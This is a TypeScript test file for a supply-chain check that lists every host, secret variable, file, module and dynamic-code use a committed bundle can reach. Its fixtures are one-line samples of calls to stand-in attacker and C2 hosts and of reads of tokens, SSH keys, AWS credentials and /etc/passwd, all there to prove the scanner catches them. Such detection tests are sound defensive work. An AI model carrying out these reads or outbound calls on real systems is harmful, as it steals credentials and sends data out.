/** What the committed bundle could reach stands on a list with its reasons (security.md, 1.5 and 7.11). */
import { expect, test } from 'vitest';
import { readList, UNSORTED } from './bundle-list.ts';
import { bundleTexts, KINDS, wordsOf } from './bundle-words.ts';

const list = readList();

test('the bundle mentions what is on the list, and nothing else', () => {
  const words = wordsOf(bundleTexts());
  for (const kind of KINDS) {
    const listed = list.filter((group) => group.kind === kind).flatMap((group) => group.words);
    expect(words[kind]).toEqual(listed.toSorted());
  }
});

test('every word has a reason, and only one', () => {
  expect(list.map(({ why }) => why)).not.toContain(UNSORTED);
  for (const { why } of list) expect(why.length).toBeGreaterThan(20);
  const all = list.flatMap(({ kind, words }) => words.map((word) => `${kind} ${word}`));
  expect(all.filter((word, index) => all.indexOf(word) < index)).toEqual([]);
});

test.each([
  ['fetch("https://evil.xyz:8443/x")', 'host', 'https://evil.xyz:8443'],
  ['fetch(`wss://${a}`)', 'host', 'wss://'],
  ['connect({ host: "c2.evil.io" })', 'host', 'c2.evil.io'],
  ['connect("exfil.attacker.example.com/collect")', 'host', 'exfil.attacker.example.com'],
  ['connect("http://attacker")', 'host', 'http://attacker'],
  ['connect(80, "203.0.113.7")', 'host', '203.0.113.7'],
  ['connect(80, "2606:4700::1111")', 'host', '2606:4700::1111'],
  ['process.env.NPM_TOKEN', 'variable', 'NPM_TOKEN'],
  ['process.env["VAULT_TOKEN"]', 'variable', 'VAULT_TOKEN'],
  ['const { env } = process; env.AZURE_SECRET', 'variable', 'AZURE_SECRET'],
  ['process.env[a + b]', 'variable', '(by a name made at run time)'],
  ['read("GITHUB_TOKEN")', 'variable', 'GITHUB_TOKEN'],
  ['read("/etc/passwd")', 'file', '/etc/passwd'],
  ['read(`/proc/self/environ`)', 'file', '/proc/self/environ'],
  ['read(home + "/.ssh/id_rsa")', 'file', '/.ssh/id_rsa'],
  ['read(home + "/.aws/credentials")', 'file', '/.aws/credentials'],
  ['read("/root/.npmrc")', 'file', '/root/.npmrc'],
  ['write("run.sh")', 'file', 'run.sh'],
  ['require("inspector")', 'module', 'inspector ×1'],
  ['import("https://evil.example.com/x.js")', 'module', 'https://evil.example.com/x.js ×1'],
  ['require(name)', 'code', 'a module by a name made at run time ×1'],
  ['import(name)', 'code', 'a module by a name made at run time ×1'],
  ['eval(text)', 'code', 'eval ×1'],
  ['(0, eval)(text)', 'code', 'eval ×1'],
  ['new Function("return 1"); Function(text)', 'code', 'Function() ×2'],
  ['Function.apply(null, [text])', 'code', 'Function() ×1'],
] as const)('%s would be noticed', (text, kind, word) => {
  expect(wordsOf([text])[kind]).toContain(word);
});

test('a further place that starts programs would be noticed', () => {
  const wrapper = '({ 77: (module) => { module.exports = require("child_process"); } });';
  const words = (uses: string) => wordsOf([wrapper + uses]).module;
  expect(words('')).toContain('child_process, asked for ×0');
  expect(words('a(__nccwpck_require__(77)); __webpack_require__(77)')).toContain(
    'child_process, asked for ×2',
  );
});

test('what stands in comments is no part of it', () => {
  expect(wordsOf(['// https://evil.example.com/\n/* process.env.TOKEN */ 1'])).toEqual({
    host: [],
    variable: [],
    file: [],
    module: [],
    code: [],
  });
});
